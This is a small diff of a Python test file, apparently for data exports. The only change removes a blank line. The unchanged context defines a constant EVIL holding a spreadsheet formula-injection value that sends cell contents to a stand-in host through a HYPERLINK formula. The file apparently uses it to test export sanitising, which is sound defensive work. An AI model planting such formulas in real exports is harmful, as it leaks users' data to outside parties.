@@ -22,7 +22,6 @@ from tests.console_process import CHECKOUT
 from tests.populated import PopulatedTeam, list_addresses
 from tests.test_malformed_responses import DamagingTransport, change_values
 
-
 SignIn = Callable[[str], Client]
 EVIL = '=HYPERLINK("evil.test?"&A1)'
 # The current exports. A new export is tested too; a missing one fails.
